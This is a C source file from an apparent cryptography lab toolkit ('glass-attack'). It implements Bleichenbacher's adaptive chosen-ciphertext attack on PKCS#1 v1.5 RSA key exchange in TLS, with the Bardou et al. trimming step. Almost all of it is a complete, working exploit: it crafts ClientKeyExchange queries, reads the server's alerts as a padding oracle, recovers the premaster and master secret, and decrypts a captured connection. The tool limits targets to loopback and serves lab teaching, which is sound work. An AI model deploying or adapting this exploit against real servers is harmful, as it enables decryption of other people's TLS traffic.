/*
 * bleichenbacher.c — glass-attack bleichenbacher (attack.h, bleich.h;
 * docs/labs/bleichenbacher.md): Bleichenbacher's adaptive chosen-
 * ciphertext attack on PKCS#1 v1.5 ("Chosen Ciphertext Attacks Against
 * Protocols Based on the RSA Encryption Standard PKCS #1", CRYPTO '98)
 * against a recorded TLS RSA key exchange.
 *
 * The attacker has a capture of one connection (bleich_capture.c): the
 * server's public key (n, e) and c, the premaster secret encrypted to it.
 * c's plaintext m is a PKCS#1 block, 00 02 || padding || 00 || premaster.
 * The server is asked about other ciphertexts c * s^e mod n, whose
 * plaintext is m * s mod n: each is sent in a ClientKeyExchange of a new
 * connection (one TCP connection a query), followed by ChangeCipherSpec
 * and a junk Finished, and the server's alert is the answer.  If the
 * server says, one way or another, whether the block started with 00 02
 * ("conforming"), each answer narrows the set of possible m, and after
 * some thousands of queries one value is left: m, and in it the premaster.
 * The lab server (--lab rsa-padding-oracle) says so by its alert:
 * decrypt_error for a bad block, bad_record_mac for a good one.  The
 * normal glass-server answers bad_record_mac to both (RFC 5246 7.4.7.1):
 * no signal, and the attack gives up after its budget.
 *
 * The steps (B = 2^(8(k-2)), k the modulus length in bytes; a conforming
 * m lies in [2B, 3B-1]):
 *   calibration: the answer to a ciphertext known not to conform (1, whose
 *      plaintext is 00 .. 01) and to c itself, which conforms; if they are
 *      the same, the server gives no signal;
 *   step 1 (blinding) is not needed: c conforms;
 *   trimming (Bardou, Focardi, Kawamoto, Simionato, Steel and Tsay,
 *      "Efficient Padding Oracle Attacks on Cryptographic Hardware",
 *      CRYPTO 2012): for small t with t | m, (u/t) * m is conforming for u
 *      near t; the fractions that work narrow [2B, 3B-1] before step 2;
 *   step 2a: the smallest s >= (n + 2B) / b with m * s conforming, trying
 *      only the s that can be (the "holes" between them skipped, Bardou et
 *      al. again); 2b: with several intervals left, the next such s; 2c:
 *      with one interval [a, b], s from r, two queries or so per bit;
 *   step 3: the intervals that m can still lie in;
 *   step 4: one interval of one value: m.
 */
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "labnet.h"
#include "glasstls/ct.h"

#include "attack.h"
#include "bleich.h"
#include "bn_lab.h"

#define MAX_JOBS      16
#define MAX_INTERVALS 256
#define TRIM_T_MAX    100              /* denominators tried by the trimming */
#define TRIM_LCM_MAX  (1u << 20)

/* exit statuses */
enum { RC_OK = 0, RC_ERROR = 1, RC_USAGE = 2, RC_NO_SIGNAL = 3, RC_BUDGET = 4 };

/* answers other than an alert description */
enum { ANS_CLOSED = 256, ANS_ERROR = 257, ANS_COUNT = 258 };

typedef struct oracle {
    struct sockaddr_storage addr;
    socklen_t addr_len;
    uint16_t suite;
    size_t   k;                        /* modulus bytes */
    bn       n, e, c;
    int      bad_answer;               /* the answer to a non-conforming block */
    long     queries, max_queries;
    double   start, max_time;
    long     answers[ANS_COUNT];       /* how often each answer came */
    int      jobs;
    int      verbose;
} oracle;

/* reads into buf (at most cap) until want(buf, len) or 5 s pass; -1 on
 * end of stream or timeout before */
static long recv_until(int fd, uint8_t *buf, size_t cap, size_t *len,
                       int (*want)(const uint8_t *, size_t))
{
    double deadline = lab_now() + 5;
    while (!want(buf, *len)) {
        if (*len == cap)
            return -1;
        int ms = (int)((deadline - lab_now()) * 1000);
        struct pollfd pfd = { fd, POLLIN, 0 };
        if (ms <= 0 || poll(&pfd, 1, ms) <= 0)
            return -2;
        ssize_t got = recv(fd, buf + *len, cap - *len, 0);
        if (got < 0 && errno == EINTR)
            continue;
        if (got <= 0)
            return -1;
        *len += (size_t)got;
    }
    return 0;
}

/* the server's first flight is complete: its records end with a
 * ServerHelloDone (0e 00 00 00) at the end of a handshake record — or it
 * sent an alert */
static int have_hello_done(const uint8_t *b, size_t n)
{
    size_t off = 0;
    while (off + 5 <= n) {
        size_t rl = (size_t)b[off + 3] << 8 | b[off + 4];
        if (off + 5 + rl > n)
            return 0;
        if (b[off] == 21)
            return 1;
        if (b[off] == 22 && rl >= 4 && memcmp(b + off + 5 + rl - 4, "\x0e\0\0\0", 4) == 0)
            return 1;
        off += 5 + rl;
    }
    return 0;
}

static int have_record(const uint8_t *b, size_t n)
{
    return n >= 5 && n >= 5 + ((size_t)b[3] << 8 | b[4]);
}

/* One query: a fresh connection, ClientHello offering the capture's suite,
 * the ClientKeyExchange with ct (k bytes), ChangeCipherSpec and a junk
 * Finished record; the answer is the alert that comes back. */
static int query(const oracle *o, const uint8_t *ct)
{
    int fd = socket(o->addr.ss_family, SOCK_STREAM, 0), one = 1, ans = ANS_ERROR;
    if (fd < 0)
        return ANS_ERROR;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (connect(fd, (const struct sockaddr *)&o->addr, o->addr_len) != 0) {
        close(fd);
        return ANS_ERROR;
    }
    uint8_t hello[5 + 4 + 2 + 32 + 1 + 4 + 2], out[5 + 4 + 2 + 1024 + 6 + 5 + 40];
    uint8_t *p = hello;
    *p++ = 22, *p++ = 3, *p++ = 3, *p++ = 0, *p++ = 4 + 2 + 32 + 1 + 4 + 2;
    *p++ = 1, *p++ = 0, *p++ = 0, *p++ = 2 + 32 + 1 + 4 + 2;    /* ClientHello */
    *p++ = 3, *p++ = 3;
    for (int i = 0; i < 32; i++)                    /* the client random: need not be random */
        *p++ = (uint8_t)(0xa0 + i);
    *p++ = 0;                                       /* no session id */
    *p++ = 0, *p++ = 2, *p++ = (uint8_t)(o->suite >> 8), *p++ = (uint8_t)o->suite;
    *p++ = 1, *p++ = 0;                             /* null compression */
    uint8_t in[32768];
    size_t got = 0;
    if (lab_write_all(fd, hello, sizeof hello) != 0 ||
        recv_until(fd, in, sizeof in, &got, have_hello_done) != 0)
        goto out;
    size_t hl = 4 + 2 + o->k, n = 0;
    out[n++] = 22, out[n++] = 3, out[n++] = 3;
    out[n++] = (uint8_t)(hl >> 8), out[n++] = (uint8_t)hl;
    out[n++] = 16, out[n++] = 0, out[n++] = (uint8_t)((2 + o->k) >> 8), out[n++] = (uint8_t)(2 + o->k);
    out[n++] = (uint8_t)(o->k >> 8), out[n++] = (uint8_t)o->k;
    memcpy(out + n, ct, o->k), n += o->k;
    memcpy(out + n, "\x14\x03\x03\x00\x01\x01", 6), n += 6;   /* ChangeCipherSpec */
    memcpy(out + n, "\x16\x03\x03\x00\x28", 5), n += 5;       /* a "sealed" Finished */
    memset(out + n, 0x5a, 40), n += 40;
    got = 0;
    if (lab_write_all(fd, out, n) != 0)
        goto out;
    long r = recv_until(fd, in, sizeof in, &got, have_record);
    if (r == -1)
        ans = ANS_CLOSED;
    else if (r == 0 && in[0] == 21 && got >= 7)
        ans = in[6];
out:
    close(fd);
    return ans;
}

static const char *answer_name(int a, char *buf, size_t cap)
{
    if (a == ANS_CLOSED)
        return "closed without an alert";
    if (a == ANS_ERROR)
        return "no answer (connection failed or timed out)";
    snprintf(buf, cap, "alert %d%s", a,
             a == 20 ? " bad_record_mac" : a == 51 ? " decrypt_error" :
             a == 40 ? " handshake_failure" : a == 10 ? " unexpected_message" : "");
    return buf;
}

/* ---- queries in parallel: one thread each ---- */
typedef struct job {
    const oracle *o;
    bn  s;
    int raw;                           /* multiplier taken as the ciphertext itself */
    int answer;
} job;

static void *job_run(void *arg)
{
    job *j = arg;
    const oracle *o = j->o;
    uint8_t ct[1024];
    bn x;
    if (j->raw)
        bn_copy(&x, &j->s);
    else if (bn_modexp(&x, &j->s, &o->e, &o->n) != 0 || bn_modmul(&x, &x, &o->c, &o->n) != 0) {
        j->answer = ANS_ERROR;
        return NULL;
    }
    bn_to_bytes(&x, ct, o->k);
    j->answer = query(o, ct);
    return NULL;
}

/* Budget left?  Prints why not. */
static int budget_left(const oracle *o)
{
    if (o->queries >= o->max_queries) {
        fprintf(stderr, "glass-attack: query budget spent (%ld queries)\n", o->queries);
        return 0;
    }
    if (lab_now() - o->start >= o->max_time) {
        fprintf(stderr, "glass-attack: time budget spent (%.0f s)\n", o->max_time);
        return 0;
    }
    return 1;
}

/* Asks about cnt multipliers at once (cnt <= jobs): conf[i] = 1 when
 * c * s[i]^e mod n conforms.  -1 when the budget is spent first. */
static int ask(oracle *o, job *jobs, int cnt, int *conf)
{
    pthread_t th[MAX_JOBS];
    if (!budget_left(o))
        return -1;
    if (cnt > 1 && o->jobs > 1) {
        int started[MAX_JOBS];
        for (int i = 0; i < cnt; i++) {
            jobs[i].o = o;
            started[i] = pthread_create(&th[i], NULL, job_run, &jobs[i]) == 0;
            if (!started[i])
                job_run(&jobs[i]);
        }
        for (int i = 0; i < cnt; i++)
            if (started[i])
                pthread_join(th[i], NULL);
    } else {
        for (int i = 0; i < cnt; i++) {
            jobs[i].o = o;
            job_run(&jobs[i]);
        }
    }
    for (int i = 0; i < cnt; i++) {
        o->queries++;
        o->answers[jobs[i].answer]++;
        conf[i] = jobs[i].answer != o->bad_answer && jobs[i].answer != ANS_ERROR;
    }
    return 0;
}

/* How many queries the next batch may hold: jobs, or fewer at the end of
 * the query budget (at least 1: ask then refuses when nothing is left). */
static int batch_room(const oracle *o)
{
    long left = o->max_queries - o->queries;
    return left <= 0 ? 1 : left < o->jobs ? (int)left : o->jobs;
}

static int ask_one(oracle *o, const bn *s)
{
    job j;
    int conf;
    memset(&j, 0, sizeof j);
    bn_copy(&j.s, s);
    return ask(o, &j, 1, &conf) != 0 ? -1 : conf;
}

/* ---- the intervals of step 3 ---- */
typedef struct interval {
    bn a, b;
} interval;

typedef struct attack {
    oracle *o;
    bn B2, B3m1, B3;                   /* 2B, 3B - 1, 3B */
    interval *M;                       /* MAX_INTERVALS */
    size_t nM;
    bn s;                              /* the last s_i found */
    uint64_t rng;                      /* step 2c's generator */
} attack;

/* Tries multipliers s = lo, lo+1, ... up to hi (NULL: no end), jobs at a
 * time; the first conforming one into *found: 1, 0 (none up to hi), -1
 * (budget). */
static int search_range(attack *A, const bn *lo, const bn *hi, bn *found)
{
    oracle *o = A->o;
    job jobs[MAX_JOBS];
    int conf[MAX_JOBS];
    bn s;
    bn_copy(&s, lo);
    for (;;) {
        int cnt = 0;
        int room = batch_room(o);
        while (cnt < room && (hi == NULL || bn_cmp(&s, hi) <= 0)) {
            memset(&jobs[cnt], 0, sizeof jobs[cnt]);
            bn_copy(&jobs[cnt].s, &s);
            bn_add_u32(&s, &s, 1);
            cnt++;
        }
        if (cnt == 0)
            return 0;
        if (ask(o, jobs, cnt, conf) != 0)
            return -1;
        for (int i = 0; i < cnt; i++)
            if (conf[i]) {
                bn_copy(found, &jobs[i].s);
                return 1;
            }
    }
}

/* Step 2a with the holes skipped: m * s in [2B + j n, 3B - 1 + j n] for
 * some j >= 1, m in [a, b], so s lies in [ceil((2B + j n) / b),
 * floor((3B - 1 + j n) / a)]; those windows, for j = 1, 2, ..., in order,
 * starting at s >= start. */
static int step2_windows(attack *A, const bn *a, const bn *b, const bn *start, bn *found)
{
    oracle *o = A->o;
    bn jn, lo, hi, t, from;
    bn_copy(&jn, &o->n);
    for (;;) {
        bn_add(&t, &A->B2, &jn);
        bn_div_ceil(&lo, &t, b);
        bn_add(&t, &A->B3m1, &jn);
        bn_div_floor(&hi, &t, a);
        bn_copy(&from, bn_cmp(&lo, start) < 0 ? start : &lo);
        if (bn_cmp(&from, &hi) <= 0) {
            int r = search_range(A, &from, &hi, found);
            if (r != 0)
                return r;
        }
        bn_add(&jn, &jn, &o->n);
    }
}

/* A deterministic generator (splitmix64) for step 2c's jumps: the attack
 * makes the same queries every run on the same capture. */
static uint64_t splitmix64(uint64_t *state)
{
    uint64_t z = (*state += 0x9e3779b97f4a7c15u);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
    return z ^ (z >> 31);
}

/* r = a number below w (w != 0), near enough uniform: 64 bits more than w
 * taken mod w */
static void random_below(bn *r, const bn *w, uint64_t *state)
{
    bn x;
    x.n = w->n + 2;
    for (size_t i = 0; i < x.n; i += 2) {
        uint64_t v = splitmix64(state);
        x.d[i] = (uint32_t)v;
        x.d[i + 1] = (uint32_t)(v >> 32);
    }
    while (x.n > 0 && x.d[x.n - 1] == 0)
        x.n--;
    bn_divmod(NULL, r, &x, w);
}

/* Step 2c: one interval [a, b].  Bleichenbacher takes r = r0, r0 + 1, ...
 * from r0 = ceil(2 (b s - 2B) / n), and for each r the s in
 * [ceil((2B + r n) / b), floor((3B - 1 + r n) / a)], so that s about
 * doubles and the interval halves.  For some m that walk is slow: when
 * n / m is close to an integer, the candidate of r + 1 sits almost where
 * the candidate of r did, relative to [2B, 3B), and dozens of r in a row
 * fail (measured: 44 queries a bit instead of 2.5 for one capture).  So
 * after three failures the next r are drawn at random from r0 + [0, W),
 * W = max(r0, 64), doubled every 16 failures: any r >= r0 is allowed, and
 * a random one lands in the conforming part of that slow cycle. */
static int step2c(attack *A, bn *found)
{
    oracle *o = A->o;
    const bn *a = &A->M[0].a, *b = &A->M[0].b;
    bn r0, r, t, u, rn, lo, hi, w;
    bn_mul(&t, b, &A->s);
    bn_sub(&t, &t, &A->B2);
    bn_add(&t, &t, &t);
    bn_div_ceil(&r0, &t, &o->n);
    for (unsigned tries = 0;; tries++) {
        if (tries < 3) {
            bn_add_u32(&r, &r0, tries);
        } else {
            bn_set_u32(&w, 64);
            if (bn_cmp(&r0, &w) > 0)
                bn_copy(&w, &r0);
            unsigned doublings = (tries - 3) / 16;
            for (unsigned i = 0; i < doublings && i < 20; i++)
                bn_add(&w, &w, &w);
            random_below(&r, &w, &A->rng);
            bn_add(&r, &r, &r0);
        }
        bn_mul(&rn, &r, &o->n);
        bn_add(&u, &A->B2, &rn);
        bn_div_ceil(&lo, &u, b);
        bn_add(&u, &A->B3m1, &rn);
        bn_div_floor(&hi, &u, a);
        if (bn_cmp(&lo, &hi) <= 0) {
            int res = search_range(A, &lo, &hi, found);
            if (res != 0)
                return res;
        }
    }
}

/* Step 3: M <- the union over [a, b] in M and r in
 * [ceil((a s - 3B + 1) / n), floor((b s - 2B) / n)] of
 * [max(a, ceil((2B + r n) / s)), min(b, floor((3B - 1 + r n) / s))]. */
static int step3(attack *A)
{
    oracle *o = A->o;
    interval *next = malloc(MAX_INTERVALS * sizeof *next);
    size_t nn = 0;
    if (next == NULL)
        return -1;
    for (size_t i = 0; i < A->nM; i++) {
        const bn *a = &A->M[i].a, *b = &A->M[i].b;
        bn t, r, rmax, rn, lo, hi;
        bn_mul(&t, a, &A->s);
        if (bn_cmp(&t, &A->B3m1) > 0) {
            bn_sub(&t, &t, &A->B3m1);           /* a s - (3B - 1) */
            bn_div_ceil(&r, &t, &o->n);
        } else {
            bn_set_u32(&r, 0);
        }
        bn_mul(&t, b, &A->s);
        if (bn_cmp(&t, &A->B2) < 0)
            continue;
        bn_sub(&t, &t, &A->B2);
        bn_div_floor(&rmax, &t, &o->n);
        for (; bn_cmp(&r, &rmax) <= 0; bn_add_u32(&r, &r, 1)) {
            bn_mul(&rn, &r, &o->n);
            bn_add(&t, &A->B2, &rn);
            bn_div_ceil(&lo, &t, &A->s);
            if (bn_cmp(&lo, a) < 0)
                bn_copy(&lo, a);
            bn_add(&t, &A->B3m1, &rn);
            bn_div_floor(&hi, &t, &A->s);
            if (bn_cmp(&hi, b) > 0)
                bn_copy(&hi, b);
            if (bn_cmp(&lo, &hi) > 0)
                continue;
            /* union: merge with an interval it overlaps */
            size_t k;
            for (k = 0; k < nn; k++)
                if (bn_cmp(&lo, &next[k].b) <= 0 && bn_cmp(&next[k].a, &hi) <= 0)
                    break;
            if (k < nn) {
                if (bn_cmp(&lo, &next[k].a) < 0)
                    bn_copy(&next[k].a, &lo);
                if (bn_cmp(&hi, &next[k].b) > 0)
                    bn_copy(&next[k].b, &hi);
            } else if (nn < MAX_INTERVALS) {
                bn_copy(&next[nn].a, &lo);
                bn_copy(&next[nn].b, &hi);
                nn++;
            } else {
                free(next);
                fprintf(stderr, "glass-attack: more than %d intervals\n", MAX_INTERVALS);
                return -1;
            }
        }
    }
    memcpy(A->M, next, nn * sizeof *next);
    A->nM = nn;
    free(next);
    return nn == 0 ? -1 : 0;
}

static uint32_t gcd32(uint32_t a, uint32_t b)
{
    while (b != 0) {
        uint32_t t = a % b;
        a = b, b = t;
    }
    return a;
}

/* c * (u / t)^e: the multiplier u * t^-1 mod n */
static int fraction(const oracle *o, uint32_t u, uint32_t t, bn *s)
{
    bn inv;
    if (bn_inv_u32(&inv, t, &o->n) != 0)
        return -1;
    bn_mul_u32(&inv, &inv, u);
    return bn_divmod(NULL, s, &inv, &o->n);
}

/* Trimming (Bardou et al. 2012, 4.1): if t divides m, m u / t is an
 * integer, and for u close to t it is often still in [2B, 3B-1]: then the
 * oracle says yes to the multiplier u t^-1.  The denominators t that work
 * are combined (t' their lcm), and the smallest and largest u that work
 * for t' bound m: 2B t' / u_min <= m <= (3B-1) t' / u_max. */
static int trim(attack *A, interval *M0, int verbose)
{
    oracle *o = A->o;
    job jobs[MAX_JOBS];
    int conf[MAX_JOBS];
    uint32_t cand_t[2 * TRIM_T_MAX], cand_u[2 * TRIM_T_MAX], lcm = 1;
    size_t ncand = 0;
    for (uint32_t t = 3; t <= TRIM_T_MAX; t++) {
        if (3 * (t - 1) > 2 * t)                       /* (t-1)/t > 2/3 */
            cand_t[ncand] = t, cand_u[ncand++] = t - 1;
        cand_t[ncand] = t, cand_u[ncand++] = t + 1;
    }
    for (size_t i = 0; i < ncand;) {
        int cnt = 0;
        size_t first = i;
        for (int room = batch_room(o); i < ncand && cnt < room; i++, cnt++) {
            memset(&jobs[cnt], 0, sizeof jobs[cnt]);
            if (fraction(o, cand_u[i], cand_t[i], &jobs[cnt].s) != 0)
                return -1;
        }
        if (ask(o, jobs, cnt, conf) != 0)
            return -1;
        for (int k = 0; k < cnt; k++) {
            uint32_t t = cand_t[first + k];
            if (!conf[k] || lcm % t == 0)
                continue;
            uint32_t l = lcm / gcd32(lcm, t) * t;
            if (l <= TRIM_LCM_MAX)
                lcm = l;
        }
    }
    if (lcm == 1) {
        if (verbose)
            fprintf(stderr, "trimming: no fraction u/t with t <= %d worked (%ld queries)\n",
                    TRIM_T_MAX, o->queries);
        return 0;
    }
    /* with t' | m, u/t' conforms exactly for u in [ceil(2B t'/m),
     * floor((3B-1) t'/m)], an interval around t' (u = t' is c itself):
     * a binary search finds each end, knowing that u <= 2t'/3 and
     * u >= 3t'/2 never conform */
    uint32_t umin, umax;
    for (int side = 0; side < 2; side++) {
        uint32_t ok = lcm, fail = side == 0 ? 2 * lcm / 3 : (3 * lcm + 1) / 2;
        while ((ok > fail ? ok - fail : fail - ok) > 1) {
            uint32_t mid = (uint32_t)(((uint64_t)ok + fail) / 2);
            bn s;
            if (fraction(o, mid, lcm, &s) != 0)
                return -1;
            int r = ask_one(o, &s);
            if (r < 0)
                return -1;
            if (r)
                ok = mid;
            else
                fail = mid;
        }
        if (side == 0)
            umin = ok;
        else
            umax = ok;
    }
    bn t;
    bn_mul_u32(&t, &A->B2, lcm);
    bn_div_ceil(&M0->a, &t, &(bn){ .d = { umin }, .n = 1 });
    bn_mul_u32(&t, &A->B3m1, lcm);
    bn_div_floor(&M0->b, &t, &(bn){ .d = { umax }, .n = 1 });
    if (verbose)
        fprintf(stderr, "trimming: t' = %u, u in [%u, %u]: m within %.3f B of width "
                        "(%ld queries so far)\n", lcm, umin, umax,
                (double)lcm * (3.0 / umax - 2.0 / umin), o->queries);
    return 0;
}

/* The whole attack: 0 with m, RC_NO_SIGNAL, RC_BUDGET or RC_ERROR. */
static int run(oracle *o, bn *m, int use_trim)
{
    attack A;
    memset(&A, 0, sizeof A);
    A.o = o;
    A.rng = 0x676c617373746c73u;               /* "glasstls": a fixed seed */
    bn B;
    bn_pow2(&B, (unsigned)(8 * (o->k - 2)));
    bn_add(&A.B2, &B, &B);
    bn_add(&A.B3, &A.B2, &B);
    bn_copy(&A.B3m1, &A.B3);
    bn_sub(&A.B3m1, &A.B3m1, &(bn){ .d = { 1 }, .n = 1 });

    /* calibration: a block known bad (ciphertext 1: plaintext 1) and c */
    job cal;
    int conf;
    char buf[64];
    memset(&cal, 0, sizeof cal);
    bn_set_u32(&cal.s, 1);
    cal.raw = 1;
    o->bad_answer = ANS_COUNT;                  /* nothing matches yet */
    if (ask(o, &cal, 1, &conf) != 0)
        return RC_BUDGET;
    o->bad_answer = cal.answer;
    if (cal.answer == ANS_ERROR) {
        fprintf(stderr, "glass-attack: the server does not answer\n");
        return RC_ERROR;
    }
    fprintf(stderr, "calibration: a block known not to start 00 02 gets: %s\n",
            answer_name(cal.answer, buf, sizeof buf));
    memset(&cal, 0, sizeof cal);
    bn_set_u32(&cal.s, 1);                      /* c itself: it conforms */
    if (ask(o, &cal, 1, &conf) != 0)
        return RC_BUDGET;
    fprintf(stderr, "calibration: the recorded ciphertext (it does start 00 02) gets: %s\n",
            answer_name(cal.answer, buf, sizeof buf));
    if (!conf)
        fprintf(stderr, "calibration: the same answer: the server shows no padding oracle; "
                        "searching anyway until the budget is spent\n");

    A.M = malloc(MAX_INTERVALS * sizeof *A.M);
    if (A.M == NULL)
        return RC_ERROR;
    bn_copy(&A.M[0].a, &A.B2);
    bn_copy(&A.M[0].b, &A.B3m1);
    A.nM = 1;
    int rc = RC_ERROR;
    if (conf && use_trim && trim(&A, &A.M[0], o->verbose) != 0) {
        rc = budget_left(o) ? RC_ERROR : RC_BUDGET;
        goto out;
    }
    /* step 2a */
    bn start;
    bn_add(&start, &o->n, &A.B2);
    bn_div_ceil(&start, &start, &A.M[0].b);
    int r = step2_windows(&A, &A.M[0].a, &A.M[0].b, &start, &A.s);
    if (r < 0) {
        rc = RC_BUDGET;
        goto out;
    }
    if (o->verbose)
        fprintf(stderr, "step 2a: s1 found after %ld queries (%.1f s)\n", o->queries,
                lab_now() - o->start);
    for (long i = 1;; i++) {
        if (step3(&A) != 0) {
            fprintf(stderr, "glass-attack: no interval left: the answers were not a "
                            "padding oracle\n");
            rc = RC_ERROR;
            goto out;
        }
        if (A.nM == 1 && bn_cmp(&A.M[0].a, &A.M[0].b) == 0) {   /* step 4 */
            bn_copy(m, &A.M[0].a);
            rc = RC_OK;
            goto out;
        }
        bn next;
        if (A.nM > 1) {                         /* step 2b */
            bn from;
            bn_add_u32(&from, &A.s, 1);
            r = search_range(&A, &from, NULL, &next);
        } else {
            r = step2c(&A, &next);
        }
        if (r < 0) {
            rc = RC_BUDGET;
            goto out;
        }
        bn_copy(&A.s, &next);
        if (o->verbose && i % 100 == 0) {
            bn w;
            bn_sub(&w, &A.M[0].b, &A.M[0].a);
            fprintf(stderr, "step 2c: s_%ld, interval of %zu bits, %ld queries (%.1f s)\n", i,
                    bn_bits(&w), o->queries, lab_now() - o->start);
        }
    }
out:
    free(A.M);
    return rc;
}

static int usage(void)
{
    fprintf(stderr,
            "usage: glass-attack bleichenbacher --pcap CAPTURE --connect 127.0.0.1:PORT\n"
            "                                   [--max-queries N] [--max-time S] [--jobs N]\n"
            "                                   [--no-trim] [-v]\n"
            "  --pcap FILE        a recorded connection with the RSA key exchange\n"
            "                     (glass-server --pcap / glass-client --pcap)\n"
            "  --connect ADDR     the server to ask (loopback only), one connection a query\n"
            "  --max-queries N    give up after N queries (default 200000)\n"
            "  --max-time S       give up after S seconds (default 600)\n"
            "  --jobs N           queries in parallel (1-%d, default 1)\n"
            "  --no-trim          Bleichenbacher's 1998 algorithm without the trimming\n"
            "exit status: 0 premaster recovered, 3 no signal (the server answered every\n"
            "query alike), 4 budget spent with a signal, 1 error, 2 usage\n",
            MAX_JOBS);
    return RC_USAGE;
}

int attack_bleichenbacher(int argc, char **argv)
{
    const char *pcap = NULL, *connect_to = NULL;
    oracle *o = calloc(1, sizeof *o);
    int use_trim = 1, rc = RC_USAGE;
    if (o == NULL)
        return RC_ERROR;
    o->max_queries = 200000, o->max_time = 600, o->jobs = 1;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--no-trim") == 0) {
            use_trim = 0;
            continue;
        }
        if (strcmp(a, "-v") == 0) {
            o->verbose = 1;
            continue;
        }
        if (strcmp(a, "--help") == 0 || v == NULL)
            goto done;
        i++;
        if (strcmp(a, "--pcap") == 0)
            pcap = v;
        else if (strcmp(a, "--connect") == 0)
            connect_to = v;
        else if (strcmp(a, "--max-queries") == 0 && atol(v) > 0)
            o->max_queries = atol(v);
        else if (strcmp(a, "--max-time") == 0 && atof(v) > 0)
            o->max_time = atof(v);
        else if (strcmp(a, "--jobs") == 0 && atoi(v) >= 1 && atoi(v) <= MAX_JOBS)
            o->jobs = atoi(v);
        else
            goto done;
    }
    if (pcap == NULL || connect_to == NULL)
        goto done;
    if (lab_loopback_addr(connect_to, &o->addr, &o->addr_len) != 0) {
        fprintf(stderr, "glass-attack: --connect takes a loopback ADDR:PORT (127.0.0.1 or [::1])\n");
        goto done;
    }
    bl_conn conn;
    rc = RC_ERROR;
    if (bl_conn_read(&conn, pcap) != 0)
        goto done;
    o->suite = conn.suite;
    o->k = conn.n_len;
    bn_from_bytes(&o->n, conn.n, conn.n_len);
    bn_from_bytes(&o->e, conn.e, conn.e_len);
    bn_from_bytes(&o->c, conn.cke, conn.cke_len);
    printf("capture: suite 0x%04X, %s, RSA key of %zu bits, encrypted premaster of %zu bytes\n",
           conn.suite, conn.ems ? "extended master secret" : "no extended master secret",
           bn_bits(&o->n), conn.cke_len);
    fflush(stdout);
    if (o->k < 64 || o->k > 512 || bn_cmp(&o->c, &o->n) >= 0) {
        fprintf(stderr, "glass-attack: the capture's RSA values are out of range\n");
        bl_conn_free(&conn);
        goto done;
    }
    o->start = lab_now();
    bn m;
    rc = run(o, &m, use_trim);
    double took = lab_now() - o->start;
    printf("queries: %ld\ntime: %.1f s\n", o->queries, took);
    printf("answers:");
    char buf[64];
    for (int a = 0; a < ANS_COUNT; a++)
        if (o->answers[a] > 0)
            printf(" %ld x %s;", o->answers[a], answer_name(a, buf, sizeof buf));
    printf("\n");
    if (rc == RC_BUDGET) {
        int distinct = 0;
        for (int a = 0; a < ANS_COUNT; a++)
            distinct += o->answers[a] > 0;
        if (distinct <= 1) {
            printf("result: no signal: the server gave one answer to every query, conforming "
                   "or not; gave up after the budget\n");
            rc = RC_NO_SIGNAL;
        } else {
            printf("result: gave up: the budget was spent before the premaster was found\n");
        }
    } else if (rc == RC_OK) {
        uint8_t em[1024], master[48];
        bn_to_bytes(&m, em, o->k);
        /* m = 00 02 || nonzero padding || 00 || premaster (48 bytes) */
        size_t z = 2;
        while (z < o->k && em[z] != 0)
            z++;
        printf("plaintext block: ");
        for (size_t i = 0; i < o->k; i++)
            printf("%02x", em[i]);
        printf("\n");
        if (em[0] != 0 || em[1] != 2 || z != o->k - 49) {
            printf("result: the block is not a PKCS#1 block around a 48-byte premaster\n");
            rc = RC_ERROR;
        } else {
            printf("premaster: ");
            for (size_t i = z + 1; i < o->k; i++)
                printf("%02x", em[i]);
            printf("\n");
            bl_master(&conn, em + z + 1, master);
            printf("master secret: ");
            for (int i = 0; i < 48; i++)
                printf("%02x", master[i]);
            printf("\nresult: premaster recovered; the recorded connection decrypted:\n");
            if (bl_decrypt(&conn, master, stdout) <= 0)
                rc = RC_ERROR;
            glass_wipe(master, sizeof master);
        }
        glass_wipe(em, sizeof em);
    }
    bl_conn_free(&conn);
done:
    free(o);
    return rc == RC_USAGE ? usage() : rc;
}
